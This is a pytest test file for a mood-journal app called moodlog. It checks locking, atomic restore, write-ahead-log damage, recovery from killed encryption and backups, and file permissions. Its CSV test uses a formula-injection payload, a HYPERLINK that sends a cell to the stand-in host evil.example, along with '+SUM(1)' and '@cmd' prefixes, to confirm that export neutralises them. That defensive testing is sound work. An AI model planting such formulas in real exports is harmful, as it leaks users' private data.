"""Never lose, alter or leak the record (issue 14): the fast half, with real files and
processes. Kill loops and full or read-only disks are in test_trust_slow.py."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from moodlog.paths import JOURNAL_FILE
from moodlog.store import backup, health
from moodlog.store.encryption import pending_marker
from moodlog.store.sqlite import SQLITE_MAGIC
from tests.conftest import Result, assert_one_line_error, file_digest
from tests.lock_holder import held_elsewhere
from tests.trust_helpers import damage_wal, kill_with_wal, make_journal

Run = Callable[..., Result]
KEY = "a long passphrase"


@pytest.fixture
def key_file(tmp_path: Path) -> Path:
    path = tmp_path / "key.txt"
    path.write_text(KEY + "\n")
    return path


# 1 ---------------------------------------------------------------- one lock for every writer
@pytest.mark.parametrize(("role", "said"), [("window", "open in a moodlog window"),
                                            ("command", "open in another moodlog command")])
def test_a_command_waits_then_says_who_has_the_journal(run: Run, data_dir: Path, role: str,
                                                       said: str) -> None:
    journal = make_journal(data_dir)
    export = data_dir.parent / "export.json"
    assert run("export", "json", str(export)).code == 0
    digest = file_digest(journal)
    with held_elsewhere(journal, role):
        for args in (["checkin", "--mood", "5"], ["info"], ["export", "json", "-"],
                     ["import", str(export), "--replace"], ["restore", "--latest"],
                     ["check"]):
            assert_one_line_error(run(*args), 1, said)
    assert file_digest(journal) == digest
    assert run("checkin", "--mood", "5").code == 0  # released: it works again


def test_a_store_opened_in_another_process_holds_the_lock(tmp_path: Path, run: Run,
                                                          data_dir: Path,
                                                          key_file: Path) -> None:
    """The issue's case: a process that opened the journal before encrypt (here, a store held
    open) keeps encrypt out until it closes."""
    journal = make_journal(data_dir)
    with held_elsewhere(journal, "command"):
        locked = run("encrypt", "--new-passphrase-file", str(key_file))
    assert locked.code == 1 and "another moodlog command" in locked.err
    assert journal.read_bytes()[:16] == SQLITE_MAGIC


# 2 ---------------------------------------------------------- restore replaces atomically
def test_restore_across_encryption_never_leaves_the_journal_empty(
        run: Run, data_dir: Path, key_file: Path) -> None:
    """The kill loop is in test_trust_slow.py; here, what is left after a whole restore."""
    journal = make_journal(data_dir)
    assert run("encrypt", "--new-passphrase-file", str(key_file)).code == 0
    other = make_journal(data_dir.parent / "other", days=5, backup=False)
    result = run("--passphrase-file", str(key_file), "restore", str(other))
    assert result.code == 0, result.err
    assert journal.read_bytes()[:16] == SQLITE_MAGIC  # the restored (plain) journal
    assert not [p for p in data_dir.iterdir() if p.name.endswith((".part", "-wal"))]
    assert "Check-ins: 5" in run("info").out


# 3 ------------------------------------------------ a missing or empty journal beside backups
@pytest.mark.parametrize("how", ["missing", "empty"])
def test_a_missing_or_empty_journal_beside_backups_is_not_a_new_journal(
        run: Run, data_dir: Path, how: str) -> None:
    journal = make_journal(data_dir, days=57)
    journal.unlink()
    if how == "empty":
        journal.write_bytes(b"")
    for args in (["info"], ["checkin", "--mood", "5"], ["check"]):
        assert_one_line_error(run(*args), 1, "restore --latest")
    assert (not journal.exists()) if how == "missing" else journal.stat().st_size == 0
    assert run("restore", "--latest").code == 0
    assert "Check-ins: 57" in run("info").out


# 4 ---------------------------------------------------------------------- a damaged -wal
def test_a_damaged_wal_is_noticed_and_kept_before_sqlite_drops_it(run: Run,
                                                                  data_dir: Path) -> None:
    journal = make_journal(data_dir, days=3)
    damaged = damage_wal(kill_with_wal(journal, saves=20), frame=3)
    report = health.read_wal(journal.with_name(JOURNAL_FILE + "-wal"))
    assert report is not None and report.lost > 5
    checked = run("check")
    assert_one_line_error(checked, 1, "write-ahead log", "damaged", "restore --latest")
    result = run("info")
    assert result.code == 0
    assert "moodlog: warning: the journal's write-ahead log" in result.err
    kept = [b for b in backup.list_backups(data_dir / "backups") if b.reason == "damaged"]
    assert len(kept) == 1  # one copy, however often it was noticed
    assert kept[0].path.with_name(kept[0].path.name + "-wal").read_bytes() == damaged
    assert run("info").err == ""  # noticed once: the -wal has been replayed and removed


def test_an_undamaged_wal_after_a_kill_is_not_reported(run: Run, data_dir: Path) -> None:
    journal = make_journal(data_dir, days=3)
    kill_with_wal(journal, saves=20)
    result = run("info")
    assert result.code == 0 and result.err == "" and "Check-ins: 23" in result.out


def test_the_wal_check_reads_encrypted_journals_too(tmp_path: Path) -> None:
    journal = make_journal(tmp_path / "data", days=3, key=KEY)
    wal = kill_with_wal(journal, saves=20, key=KEY)
    assert health.read_wal(wal) == health.WalReport(replayable=20, lost=0)
    damage_wal(wal, frame=4)
    report = health.read_wal(wal)
    assert report is not None and report.lost > 5


# 5 ------------------------------------------------------------------ a killed encrypt
_KILLED_ENCRYPT = """
import os, sys
from pathlib import Path
from moodlog.store import encryption
real, calls = encryption.convert_file, []
def dies(path, *args, **kwargs):
    calls.append(path)
    if len(calls) == int(sys.argv[3]):
        os._exit(9)  # as if killed: no cleanup
    return real(path, *args, **kwargs)
encryption.convert_file = dies
encryption.change_encryption(Path(sys.argv[1]), Path(sys.argv[1]).parent / "backups", None,
                             sys.argv[2])
"""


def _plaintext_backups(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.is_file()
            and p.read_bytes()[:16] == SQLITE_MAGIC]


def _killed_encrypt(journal: Path, at_call: int) -> None:
    done = subprocess.run([sys.executable, "-c", _KILLED_ENCRYPT, str(journal), KEY,
                           str(at_call)])
    assert done.returncode == 9


def _three_backups(run: Run, data_dir: Path) -> Path:
    journal = make_journal(data_dir)
    for _ in range(2):
        assert run("backup").code == 0
    return journal


def test_a_killed_encrypt_is_finished_by_running_it_again(run: Run, data_dir: Path,
                                                          key_file: Path) -> None:
    journal = _three_backups(run, data_dir)
    _killed_encrypt(journal, at_call=3)  # the journal and one backup done, then killed
    assert pending_marker(journal).exists()
    assert _plaintext_backups(data_dir / "backups")  # the state the issue found
    again = run("encrypt", "--new-passphrase-file", str(key_file))
    assert again.code == 0, again.err
    assert _plaintext_backups(data_dir / "backups") == []
    assert not pending_marker(journal).exists()
    assert "Check-ins: 20" in run("--passphrase-file", str(key_file), "info").out


def test_a_killed_encrypt_is_finished_by_the_next_command(run: Run, data_dir: Path,
                                                          key_file: Path) -> None:
    journal = _three_backups(run, data_dir)
    _killed_encrypt(journal, at_call=2)
    assert _plaintext_backups(data_dir / "backups")
    result = run("--passphrase-file", str(key_file), "info")
    assert result.code == 0 and "finished an interrupted encryption" in result.err
    assert _plaintext_backups(data_dir / "backups") == []


def test_a_killed_encrypt_before_the_journal_changed_leaves_nothing_to_finish(
        run: Run, data_dir: Path) -> None:
    journal = _three_backups(run, data_dir)
    _killed_encrypt(journal, at_call=1)
    result = run("info")
    assert result.code == 0 and result.err == "" and not pending_marker(journal).exists()


# 6 --------------------------------------------------------------- CSV formula injection
def test_csv_cells_that_start_a_formula_are_neutralised(run: Run, data_dir: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert run("checkin", "--date", "2026-01-02", "--mood", "4", "--note", evil).code == 0
    assert run("treatment", "add", "--kind", "tms", "--at", "2026-01-02 10:00",
               "--clinic", "+SUM(1)", "--note", "@cmd", "--side-effect", "nausea=1").code == 0
    checkins = list(csv.DictReader(io.StringIO(run("export", "csv", "-").out.lstrip("\ufeff"))))
    assert checkins[0]["note"] == "'" + evil
    out = run("export", "csv", "-", "--table", "treatments").out.lstrip("\ufeff")
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["clinic"] == "'+SUM(1)" and row["note"] == "'@cmd"
    assert "'" in Path("README.md").read_text() and "formula" in Path("README.md").read_text()


# 8 ------------------------------------------------------------------------ screenshots
def test_screenshots_are_owner_only(qapp: object, tmp_path: Path, data_dir: Path,
                                    monkeypatch: pytest.MonkeyPatch) -> None:
    from PySide6.QtWidgets import QLabel

    from moodlog import app
    from moodlog.ui import screenshots

    make_journal(data_dir, days=2)

    def one_picture(_app: object, _settings: object, _store: object, out: Path,
                    _size: object = None) -> list[Path]:
        written: list[Path] = []
        screenshots._save(QLabel("a secret note"), out / "one.png", written)
        return written

    monkeypatch.setattr(screenshots, "render_all", one_picture)
    out = tmp_path / "shots"
    assert app.take_screenshots(str(data_dir), str(out)) == 0
    assert (out.stat().st_mode & 0o777) == 0o700
    assert ((out / "one.png").stat().st_mode & 0o777) == 0o600
    assert (out / "one.png").read_bytes()[:4] == b"\x89PNG"
    assert [p.name for p in out.iterdir()] == ["one.png"]


# 12 ---------------------------------------------------------------- backups under a temp name
_KILLED_BACKUP = """
import os, sys
from pathlib import Path
from moodlog.store import backup
real = backup.copy_into
def dies(src, target, key, journal_mode="DELETE"):
    real(src, target, key, journal_mode)
    os._exit(9)  # killed after the copy, before its check and rename
backup.copy_into = dies
backup.backup_copy(Path(sys.argv[1]), Path(sys.argv[1]).parent / "backups", "daily")
"""


def test_a_killed_backup_leaves_no_file_under_a_backup_name(run: Run, data_dir: Path) -> None:
    journal = make_journal(data_dir, backup=False)
    done = subprocess.run([sys.executable, "-c", _KILLED_BACKUP, str(journal)])
    assert done.returncode == 9
    folder = data_dir / "backups"
    assert backup.list_backups(folder) == []  # no partial file under a backup's name
    assert [p.name for p in folder.iterdir() if p.name.endswith(".part")]
    assert run("info").code == 0  # the day's real backup is not blocked; the leftover goes
    assert [b.reason for b in backup.list_backups(folder)] == ["daily"]
    assert not [p for p in folder.iterdir() if p.name.endswith(".part")]


# 13 ----------------------------------------------------------------------- dates at the edges
def test_dates_at_the_edges(run: Run, data_dir: Path) -> None:
    make_journal(data_dir)
    for args in (["treatment", "list", "--to", "9999-12-31"],
                 ["export", "json", "-", "--to", "9999-12-31"],
                 ["export", "csv", "-", "--to", "9999-12-31", "--from", "0001-01-01"],
                 ["insights", "--from", "0001-01-01", "--to", "9999-12-31"]):
        result = run(*args)
        assert result.code == 0 and "Traceback" not in result.err, (args, result.err)
    assert_one_line_error(run("treatment", "add", "--kind", "tms", "--at", "0001-01-01 00:00"),
                          1, "outside the dates moodlog accepts")
    assert_one_line_error(run("checkin", "--date", "1899-12-31", "--mood", "3"), 1,
                          "outside the dates")
    assert run("outcomes").code == 0


# 14 ------------------------------------------------------------------ silently accepted
def test_empty_values_are_refused_not_taken_for_defaults(run: Run, data_dir: Path,
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         tmp_path: Path) -> None:
    journal = make_journal(data_dir)
    digest = file_digest(journal)
    assert_one_line_error(run("checkin", "--date", "", "--mood", "3"), 1, "--date")
    assert_one_line_error(run("treatment", "add", "--kind", "tms", "--at", "2026-01-03 10:00",
                              "--bp-before", ""), 1, "--bp-before")
    assert_one_line_error(run("symptom", "add", "two\nlines"), 1, "one line")
    assert file_digest(journal) == digest
    default = tmp_path / "the-real-journal"
    monkeypatch.setenv("MOODLOG_DATA_DIR", str(default))
    assert_one_line_error(run("--data-dir", "", "info", data=None), 1, "--data-dir is empty")
    assert not default.exists()


# 15 ---------------------------------------------------------------------------- messages
def test_messages_say_what_is_wrong(run: Run, data_dir: Path, tmp_path: Path) -> None:
    make_journal(data_dir)
    assert_one_line_error(run("checkin", "--mood", "3", "--symptom", "sadness=²"), 1,
                          "KEY=0..3")
    big = tmp_path / "big.json"
    assert run("export", "json", str(big)).code == 0
    text = big.read_text(encoding="utf-8")
    big.write_text(text.replace('"mood": 0', '"mood": ' + "9" * 5000, 1), encoding="utf-8")
    assert_one_line_error(run("import", str(big)), 1, str(big), "too many digits")


def test_a_wrong_passphrase_prints_only_moodlogs_line(data_dir: Path, tmp_path: Path,
                                                     key_file: Path) -> None:
    make_journal(data_dir, key=KEY)
    wrong = tmp_path / "wrong.txt"
    wrong.write_text("not the passphrase\n")
    done = subprocess.run([sys.executable, "-m", "moodlog", "--data-dir", str(data_dir),
                           "--passphrase-file", str(wrong), "info"],
                          capture_output=True, text=True, env={**os.environ})
    assert done.returncode == 1
    assert done.stderr.strip().splitlines() == [
        "moodlog: error: that passphrase does not open journal.sqlite"], done.stderr


def test_backups_says_when_it_cannot_read_them(run: Run, data_dir: Path) -> None:
    make_journal(data_dir)
    (backup.list_backups(data_dir / "backups")[0].path).write_bytes(b"x" * 8192)
    result = run("backups")
    assert result.code == 1 and "cannot be read" in result.err


@pytest.mark.parametrize("damage", ["page 1 zeroed", "another file"])
def test_a_journal_that_is_not_a_journal_says_so_and_restore_works(
        run: Run, data_dir: Path, damage: str) -> None:
    journal = make_journal(data_dir)
    if damage == "page 1 zeroed":
        with journal.open("r+b") as fh:
            fh.write(b"\0" * 4096)
    else:
        journal.write_bytes(b"%PDF-1.4 not a journal\n" * 500)
    for args in (["info"], ["checkin", "--mood", "3"]):
        result = run(*args)
        assert result.code == 1 and "passphrase" not in result.err, result.err
        assert "not a moodlog journal" in result.err
    restored = run("restore", "--latest")
    assert restored.code == 0, restored.err
    assert "Check-ins: 20" in run("info").out
    assert [b.reason for b in backup.list_backups(data_dir / "backups")].count("damaged") == 1


def test_restore_latest_of_encrypted_backups_without_a_journal(run: Run, data_dir: Path,
                                                               key_file: Path) -> None:
    journal = make_journal(data_dir, key=KEY)
    journal.unlink()
    no_key = run("restore", "--latest")
    assert no_key.code == 1 and "--passphrase-file" in no_key.err
    done = run("--passphrase-file", str(key_file), "restore", "--latest")
    assert done.code == 0, done.err
    assert "Check-ins: 20" in run("--passphrase-file", str(key_file), "info").out


# 16 ---------------------------------------------------------------------------- smaller
def test_an_existing_data_folder_becomes_owner_only(run: Run, data_dir: Path) -> None:
    data_dir.mkdir(mode=0o755)
    data_dir.chmod(0o755)
    assert run("checkin", "--mood", "5").code == 0
    assert (data_dir.stat().st_mode & 0o777) == 0o700


def test_a_folder_of_other_files_is_not_chmodded(run: Run, tmp_path: Path) -> None:
    folder = tmp_path / "documents"
    folder.mkdir()
    folder.chmod(0o755)
    (folder / "letter.txt").write_text("mine")
    assert run("checkin", "--mood", "5", data=folder).code == 0
    assert (folder.stat().st_mode & 0o777) == 0o755
